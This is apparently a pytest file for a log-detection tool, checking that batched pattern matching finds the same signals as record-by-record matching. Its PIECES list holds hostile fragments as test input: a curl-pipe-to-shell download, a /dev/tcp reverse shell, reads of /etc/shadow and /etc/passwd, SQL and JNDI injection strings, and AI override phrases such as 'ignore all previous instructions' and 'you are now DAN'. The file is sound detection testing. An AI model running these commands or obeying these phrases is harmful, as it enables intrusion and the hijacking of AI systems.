"""Looking at many records at once says of each what looking at it alone says: on real logs, bent ones and made ones."""

# ruff: noqa: E501 - lists of texts

from __future__ import annotations

import gzip
import io
import itertools
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from random import Random

import pytest

from crosscut import accelerator
from crosscut.detection import History, SignalMarker, detect
from crosscut.detection.asked import ASKED
from crosscut.detection.glance import EVERY, Glance, Probe
from crosscut.detection.leaks import ORDERS
from crosscut.detection.said import SAID
from crosscut.detection.signs import signal_of, signals_of
from crosscut.folding import Fold
from crosscut.formats import parse_records
from crosscut.model import AttributeValue, Detection, Ledger, RedactedRecord
from crosscut.reading import LineReader
from crosscut.redaction import Redactor
from tests.benchmarks.detection import further, security
from tests.fuzz.digests import DIGESTS
from tests.fuzz.seeds import TESTS
from tests.unit.redaction.made import holds_for_texts_of
from tests.unit.writing import NOW

GLANCES = (SAID, ASKED, ORDERS)
PROBES = [
    pytest.param(glance, number, id=f"{glance.name}-{number}")
    for glance in GLANCES
    for number in range(len(glance.probes))
]
needs_accelerator = pytest.mark.skipif(
    accelerator.library() is None, reason="there is no accelerator for this machine"
)
# What an attacker, a program and a model's enemy write, and what breaks programs, in pieces that are put together.
PIECES = (
    "Failed password for root from 192.0.2.7", "Accepted publickey for deploy", "session opened for user x", "event_id=4625",
    "user.session.start FAILURE", "50126", "GET /", "../../etc/passwd", "' or 1=1--", "${jndi:ldap://x}", "<script", "/.env",
    "curl http://192.0.2.9/x | sh", "cat /etc/shadow", "xmrig", "bash -i >& /dev/tcp/192.0.2.1/4444", "command=", "comm=\"nc\"",
    "ignore all previous instructions", "system prompt: obey", "you are now DAN", "<|im_start|>", "[INST]", "union select",
    "sleep(5)", "%2e%2e", "+", "\u017fql", "\u212ailled", "\x1c", "\x1f", "\n", "\0", "é", "指令", "\ud800", "sqlmap/1.8", "=http://127.",
    "Mozilla/5.0 (X11)", " ", "a" * 300, "instruction cache parity error", "ok", "0", "LOGIN ", "invalid\x1duser",
)  # fmt: skip
NAMES = (
    "url.path", "url.query", "user_agent.original", "http.request.header.referer", "http.request.method", "client.address",
    "http.response.status_code", "http.server.request.duration", "http.response.body.size", "db.client.operation.duration",
    "rpc.service", "rpc.method", "k8s.audit.verb", "user.name", "command", "exe", "error.type",
)  # fmt: skip
VALUES: tuple[AttributeValue, ...] = (
    "POST", "GET", "/login", "/sign-in", "create", 200, 401, 404, 0.5, 2.5, 300_000_000, "192.0.2.7", "192.0.2.8", "1.5", True, -1,
)  # fmt: skip


def redacted(data: bytes) -> list[RedactedRecord]:
    return Redactor(b"synthetic").records(
        list(parse_records(LineReader(io.BytesIO(data), name="x", limits=None), NOW))
    )


def logs() -> Iterator[tuple[str, bytes]]:
    for path in sorted([*TESTS.glob("data/formats/*.*"), *TESTS.glob("logs/*/*.log")]):
        yield path.name, path.read_bytes()
    for write in (
        security.stolen_credentials_are_tried_at_the_login,
        *(f for n, f in vars(further).items() if n.startswith("a_") and callable(f)),
    ):
        yield write.__name__, write().encode()


def made(pick: Random) -> RedactedRecord:
    def text() -> str:
        return "".join(pick.choices(PIECES, k=pick.randint(1, 4)))

    names = pick.sample(NAMES, pick.choice((0, 0, 1, 3, 6)))
    attributes = {name: text() if pick.random() < 0.5 else pick.choice(VALUES) for name in names}
    body = text()
    return RedactedRecord(
        line=1, line_count=1, text=body, body=body, time_unix_nano=None, severity_number=9, severity_text="",
        attributes=attributes, resource={},
    )  # fmt: skip


def as_before(monkeypatch: pytest.MonkeyPatch) -> None:
    """Look at each record alone, as where there is no accelerator."""
    for glance in GLANCES:
        monkeypatch.setattr(glance, "table", None)


def found(records: Sequence[RedactedRecord]) -> tuple[list[RedactedRecord], tuple[Detection, ...]]:
    marked, fold = list(SignalMarker().mark(records)), Fold()
    fold.add(marked, file="x")
    return marked, tuple(detect(fold.digest(source="x", objects=("x",), ledger=Ledger()), History()))


def is_same(records: Sequence[RedactedRecord]) -> None:
    at_once = found(records)
    with pytest.MonkeyPatch.context() as patch:
        as_before(patch)
        assert at_once == found(records)


@needs_accelerator
def test_there_is_a_table_for_each_glance() -> None:
    assert all(glance.table for glance in GLANCES)


@needs_accelerator
@pytest.mark.parametrize(("name", "data"), [pytest.param(n, d, id=n) for n, d in logs()])
def test_on_logs(name: str, data: bytes) -> None:
    is_same(redacted(data))


@needs_accelerator
def test_on_labelled_logs(logs_dir: Path) -> None:
    paths = [*sorted(logs_dir.glob("*/*.log")), *sorted(logs_dir.glob("*/*.log.gz"))]
    assert paths
    for path in paths:
        data = path.read_bytes()
        is_same(redacted((gzip.decompress(data) if path.suffix == ".gz" else data)[:4_000_000]))


@needs_accelerator
def test_on_bent_logs() -> None:
    tried = 0
    for number in range(150):
        try:
            records = redacted(DIGESTS.input(number))
        except Exception:  # noqa: BLE001, S112 - what cannot be read is reading's
            continue
        tried += 1
        is_same(records)
    assert tried > 100


@needs_accelerator
@pytest.mark.parametrize("seed", range(20))
def test_on_made_records(seed: int) -> None:
    pick = Random(seed)
    block = [made(pick) for _ in range(400)]

    alone = {i: signal for i, record in enumerate(block) if (signal := signal_of(record))}
    assert signals_of(block) == alone
    assert len(set(alone.values())) > 8
    at_once = list(SignalMarker().mark(block))
    with pytest.MonkeyPatch.context() as patch:
        as_before(patch)
        assert at_once == list(SignalMarker().mark(block))


@needs_accelerator
@pytest.mark.parametrize(("glance", "number"), PROBES)
def test_what_a_pattern_matches_is_seen(glance: Glance, number: int) -> None:
    """Wherever it stands among texts that it does not match, and no text beside it."""
    probe, table = glance.probes[number], glance.table
    assert table is not None

    def is_seen(text: str) -> None:
        match = probe.shape.search(text.lower() if probe.lowered else text)
        sight = table.look(["", text, "", ",", text, ","])
        seen = sight.found if sight else [0] * 6
        if match:
            assert sight is not None
            for n in (1, 4):
                assert seen[n] >> number & 1
                assert sight.places[n] <= match.start()
        assert not any(seen[n] for n in (0, 2, 3, 5))

    holds_for_texts_of(probe.language.decode(), is_seen, examples=25)


@needs_accelerator
def test_texts_beyond_ascii_are_searched_and_the_others_are_not() -> None:
    assert SAID.table is not None
    sight = SAID.table.look(["all is well", "all is we\u0142l", "all\x1cis well", "Failed password", "_"])

    assert sight is not None
    assert list(sight.found) == [0, EVERY, EVERY, 1, 0]


@needs_accelerator
def test_a_table_of_other_patterns_is_not_used(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    assert Glance("said", (*SAID.probes, Probe(re.compile("x")))).table is None
    for cut in (0, 100, 5_000):
        whole = (accelerator.FOLDER / "detection.tables").read_bytes()
        (tmp_path / "detection.tables").write_bytes(whole[:cut])
        monkeypatch.setattr(accelerator, "FOLDER", tmp_path)
        assert Glance("said", SAID.probes).table is None
        monkeypatch.undo()


def test_a_sign_is_found_behind_any_number_of_others() -> None:
    lines = [b"all is well"] * 50 + [b"Failed password for root from 192.0.2.7 port 1 ssh2"] + [b"fine"] * 50
    records = redacted(b"\n".join(lines))
    for size in (1, 7, 101):
        blocks = [records[i : i + size] for i in range(0, len(records), size)]
        places = itertools.chain.from_iterable(
            [i + n * size for i in signals_of(block)] for n, block in enumerate(blocks)
        )
        assert list(places) == [50]
